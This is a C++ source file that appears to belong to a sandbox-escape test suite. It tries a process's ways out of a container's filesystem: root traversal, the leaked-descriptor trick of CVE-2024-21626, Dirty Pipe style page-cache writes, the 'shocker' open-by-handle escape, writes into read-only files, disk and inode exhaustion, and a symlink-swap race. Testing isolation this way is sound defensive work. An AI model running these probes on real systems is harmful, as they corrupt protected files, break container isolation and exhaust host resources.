// SPDX-License-Identifier: Apache-2.0
// To files that it was not given, and into those that it may only read.
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "attempt.h"

namespace escape {
namespace {

bool readFile(const Words& words) { return opens(words[0], O_RDONLY); }
bool writeFile(const Words& words) { return opens(words[0], O_WRONLY | O_CREAT); }

const std::string kUp = "/../../../../../../../../../../..";

// Back over the root, by name and by the working directory.
bool walkUp(const Words& words) {
  return opens(kUp + words[0], O_RDONLY) || opens("/proc/self/cwd" + kUp + words[0], O_RDONLY) ||
         opens("/proc/self/root" + kUp + words[0], O_RDONLY);
}

// By a directory whose descriptor was forgotten (what runc gave away in CVE-2024-21626).
bool walkUpFromDescriptor(const Words& words) {
  for (int fd = 0; fd < 256; ++fd) {
    if (opens("/proc/self/fd/" + std::to_string(fd) + kUp + words[0], O_RDONLY)) return true;
  }
  return false;
}

bool hasMoreDescriptors(const Words&) {
  for (int fd = 3; fd < 1024; ++fd) {
    if (fcntl(fd, F_GETFD) >= 0) return true;
  }
  return false;
}

// Whether a file is there, though it may not be read: the answers differ.
bool tellsApart(const Words& words) {
  for (const std::string& prefix : {std::string(), kUp}) {
    struct stat info{};
    const int there = stat((prefix + words[0]).c_str(), &info) == 0 ? 0 : errno;
    const int missing = stat((prefix + words[0] + ".none").c_str(), &info) == 0 ? 0 : errno;
    if (there != missing) return true;
  }
  return false;
}

// When another reads and writes its files.
bool watch(const Words& words) {
  int watcher = inotify_init1(IN_CLOEXEC);
  struct stat info{};
  for (const std::string& prefix : {std::string(), kUp}) {
    if (inotify_add_watch(watcher, (prefix + words[0]).c_str(), IN_ALL_EVENTS) >= 0) return true;
    if (stat((prefix + words[0]).c_str(), &info) == 0) return true;
  }
  return false;
}

int reopenForWriting(const std::string& path) {
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  return fd < 0 ? -1 : open(("/proc/self/fd/" + std::to_string(fd)).c_str(), O_RDWR | O_CLOEXEC);
}

int makeSource() {
  int source = static_cast<int>(syscall(SYS_memfd_create, "source", 0));
  return source >= 0 && write(source, "evil", 4) == 4 && lseek(source, 0, SEEK_SET) == 0 ? source : -1;
}

bool sendInto(const Words& words) {
  const int target = reopenForWriting(words[0]), to = target < 0 ? open(words[0].c_str(), O_RDONLY) : target;
  return sendfile(to, makeSource(), nullptr, 4) == 4;
}

bool spliceInto(const Words& words) {
  std::array<int, 2> ends{};
  if (pipe(ends.data()) != 0 || write(ends[1], "evil", 4) != 4) return false;
  const int target = reopenForWriting(words[0]), to = target < 0 ? open(words[0].c_str(), O_RDONLY) : target;
  return splice(ends[0], nullptr, to, nullptr, 4, 0) == 4;
}

bool copyInto(const Words& words) {
  const int target = reopenForWriting(words[0]), to = target < 0 ? open(words[0].c_str(), O_RDONLY) : target;
  const std::string other = words[1] + "/source";
  int source = open(other.c_str(), O_RDWR | O_CREAT, 0600);
  if (write(source, "evil", 4) != 4 || lseek(source, 0, SEEK_SET) != 0) return false;
  return copy_file_range(source, nullptr, to, nullptr, 4, 0) == 4;
}

// A pipe whose buffer is a page of the file's cache takes no more bytes (CVE-2022-0847): else they land in the file.
void writeByPipe(int file) {
  std::array<int, 2> ends{};
  if (pipe(ends.data()) != 0) return;
  std::array<char, 4096> page{};
  const int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int done = 0; done < size; done += 4096) static_cast<void>(!write(ends[1], page.data(), page.size()));
  for (int done = 0; done < size; done += 4096) static_cast<void>(!read(ends[0], page.data(), page.size()));
  loff_t at = 0;
  if (splice(file, &at, ends[1], nullptr, 1, 0) == 1) static_cast<void>(!write(ends[1], "evil", 4));
}

// Every way into the pages of a file that is open for reading: through when its content is another afterwards.
bool changePages(const Words& words) {
  int file = open(words[0].c_str(), O_RDONLY | O_CLOEXEC);
  std::array<char, 64> before{}, after{};
  if (pread(file, before.data(), before.size(), 0) <= 4) return false;
  writeByPipe(file);
  void* mapped = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (mapped != MAP_FAILED) std::memcpy(mapped, "evil", 4);
  mapped = mmap(nullptr, 4096, PROT_READ, MAP_SHARED, file, 0);
  if (mapped != MAP_FAILED && mprotect(mapped, 4096, PROT_READ | PROT_WRITE) == 0) std::memcpy(mapped, "evil", 4);
  static_cast<void>(!ftruncate(file, 1));
  if (int again = reopenForWriting(words[0]); again >= 0) static_cast<void>(!pwrite(again, "evil", 4, 0));
  const ssize_t left = pread(file, after.data(), after.size(), 0);
  return left <= 4 || after != before;
}

bool removeIt(const Words& words) { return unlink(words[0].c_str()) == 0; }

bool linkOut(const Words& words) {
  unlink(words[1].c_str());
  return link(words[0].c_str(), words[1].c_str()) == 0;
}

// Its own block for the other's, where the file system can share blocks.
bool shareBlocks(const Words& words) {
  std::array<char, sizeof(file_dedupe_range) + sizeof(file_dedupe_range_info)> space{};
  auto* range = reinterpret_cast<file_dedupe_range*>(space.data());
  const std::string own = words[1] + "/block";
  int source = open(own.c_str(), O_RDWR | O_CREAT, 0600), target = open(words[0].c_str(), O_RDONLY);
  std::array<char, 4096> block{};
  if (write(source, block.data(), block.size()) != 4096 || target < 0) return false;
  range->src_length = 4096;
  range->dest_count = 1;
  range->info[0].dest_fd = target;
  if (ioctl(source, FIDEDUPERANGE, range) != 0) return false;
  errno = range->info[0].status < 0 ? -range->info[0].status : 0;
  return errno == 0;
}

// A file by its number, past every directory and mount (the "shocker" of 2014).
bool openByHandle(const Words& words) {
  struct {
    unsigned bytes = 64;
    int type = 0;
    std::array<unsigned char, 64> rest{};
  } handle;
  int mount = 0, around = open(words[0].c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, words[0].c_str(), &handle, &mount, 0) != 0) return false;
  return syscall(SYS_open_by_handle_at, around, &handle, O_RDONLY) >= 0;
}

bool fill(const Words& words) {
  const std::string path = words[0] + "/filling";
  const long wanted = std::atol(words[1].c_str());
  int file = open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  std::string block(1 << 20, 'x');
  long written = 0;
  while (written < wanted && write(file, block.data(), block.size()) == static_cast<ssize_t>(block.size())) ++written;
  std::printf("wrote %ld MiB\n", written);
  return written == wanted;
}

bool makeMany(const Words& words) {
  const long wanted = std::atol(words[1].c_str());
  long made = 0;
  while (made < wanted && opens(words[0] + "/many" + std::to_string(made), O_WRONLY | O_CREAT)) ++made;
  std::printf("made %ld files\n", made);
  return made == wanted;
}

// Its directory is a link to another's every other moment, for as long as it is let.
bool swapWithLink(const Words& words) {
  const std::string name = words[0] + "/sub", link = words[0] + "/link";
  mkdir(name.c_str(), 0755);
  unlink(link.c_str());
  if (symlink(words[1].c_str(), link.c_str()) != 0) return false;
  std::printf("swapping\n");
  std::fflush(stdout);
  for (;;) syscall(SYS_renameat2, AT_FDCWD, name.c_str(), AT_FDCWD, link.c_str(), RENAME_EXCHANGE);
}

constexpr Attempt kAttempts[] = {
    {"read", 1, "reads a file", readFile},
    {"write", 1, "writes a file", writeFile},
    {"dotdot", 1, "walks up over its root", walkUp},
    {"descriptor_dotdot", 1, "walks up from a descriptor that was left open", walkUpFromDescriptor},
    {"descriptors", 0, "has more descriptors than 0, 1 and 2", hasMoreDescriptors},
    {"tell_apart", 1, "learns whether a host file is there", tellsApart},
    {"watch", 1, "watches when another's file is used", watch},
    {"sendfile", 1, "sends bytes into a file that it may only read", sendInto},
    {"splice", 1, "splices bytes into a file that it may only read", spliceInto},
    {"copy_file_range", 2, "copies bytes into a file that it may only read", copyInto},
    {"change_pages", 1, "changes the cached pages of a file that it may only read", changePages},
    {"unlink", 1, "removes a file of a read-only mount", removeIt},
    {"hard_link", 2, "links a file out of its mount", linkOut},
    {"dedupe", 2, "puts its own block in the place of another's", shareBlocks},
    {"open_by_handle", 1, "opens a file by its number", openByHandle},
    {"fill", 2, "fills a file system", fill},
    {"many_files", 2, "makes files without end", makeMany},
    {"swap_with_link", 2, "makes a granted directory a link, over and over", swapWithLink},
};

}  // namespace

std::span<const Attempt> fileAttempts() { return kAttempts; }

}  // namespace escape
